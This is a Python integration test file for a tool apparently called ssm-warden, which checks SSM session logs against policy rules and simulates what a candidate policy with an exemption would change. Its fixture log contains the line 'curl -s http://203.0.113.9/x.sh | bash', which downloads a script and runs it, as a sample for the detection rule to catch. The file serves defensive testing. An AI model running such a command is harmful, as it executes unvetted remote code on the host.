"""``ssm-warden policy simulate`` against the moto server: what a candidate policy would change."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import yaml

from ssm_warden.ledger.repository import SessionRepository
from ssm_warden.models.session import Principal, SessionStarted
from tests.integration.cli.conftest import ACCOUNT, LOG_GROUP, REGION

ROOT = Path(__file__).resolve().parents[3]
SESSION = "alice-0aaaaaaaaaaaaaaaa"
TARGET = "i-0123456789abcdef0"


def _session_with_a_download_to_shell(boto: Callable[[str], Any]) -> None:
    SessionRepository().apply_start(
        SessionStarted(
            event_id="ev-1",
            account=ACCOUNT,
            region=REGION,
            at=datetime.now(UTC) - timedelta(hours=2),
            principal=Principal(arn="arn:aws:sts::123456789012:assumed-role/Admin/alice"),
            session_id=SESSION,
            target_id=TARGET,
            document_name="SSM-SessionManagerRunShell",
            reason="INC-1",
        ),
        {"Environment": "prod"},
        False,
    )
    logs = boto("logs")
    logs.create_log_group(logGroupName=LOG_GROUP)
    logs.create_log_stream(logGroupName=LOG_GROUP, logStreamName=SESSION)
    now = int(time.time() * 1000)
    lines = [["sh-4.2$ sh-4.2$ uptime", " up"], ["sh-4.2$ curl -s http://203.0.113.9/x.sh | bash", "ok"]]
    logs.put_log_events(
        logGroupName=LOG_GROUP,
        logStreamName=SESSION,
        logEvents=[
            {
                "timestamp": now - 60_000 + n,
                "message": json.dumps({"sessionId": SESSION, "sessionData": chunk}),
            }
            for n, chunk in enumerate(lines)
        ],
    )


def _candidate(tmp_path: Path, **changes: Any) -> Path:
    document = yaml.safe_load((ROOT / "policies" / "default.yaml").read_text())
    for key, value in changes.items():
        document[key] = value
    path = tmp_path / "candidate.yaml"
    path.write_text(yaml.safe_dump(document, sort_keys=False))
    return path


def test_simulate_shows_the_exemption_a_candidate_would_use(
    deployed: Any, boto: Callable[[str], Any], cli: Callable[..., Any], tmp_path: Path
) -> None:
    # Given a recent prod session that piped a download into bash
    _session_with_a_download_to_shell(boto)
    # When a candidate policy exempts that target from the rule
    expires = (datetime.now(UTC) + timedelta(days=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    candidate = _candidate(
        tmp_path,
        exemptions=[
            {"target": TARGET, "rule": "download-*", "expires": expires, "reason": "vendor installer"}
        ],
    )
    run = cli("policy", "simulate", str(candidate), "--since", "1d")
    # Then the command's response changes from terminate to exempt, and simulate exits 1
    assert run.code == 1, run.err
    assert "curl -s http://203.0.113.9/x.sh | bash" in run.out and "terminate -> exempt" in run.out
    assert "1 session(s) would change" in run.out


def test_simulate_the_deployed_policy_changes_nothing(
    deployed: Any, boto: Callable[[str], Any], cli: Callable[..., Any], tmp_path: Path
) -> None:
    _session_with_a_download_to_shell(boto)
    run = cli("policy", "simulate", str(ROOT / "policies" / "default.yaml"), "--format", "json")
    assert run.code == 0, run.err
    assert run.json_lines()[-1]["summary"]["changed"] == 0


def test_simulate_rejects_a_bad_window(deployed: Any, cli: Callable[..., Any]) -> None:
    assert cli("policy", "simulate", str(ROOT / "policies" / "default.yaml"), "--since", "1y").code == 2
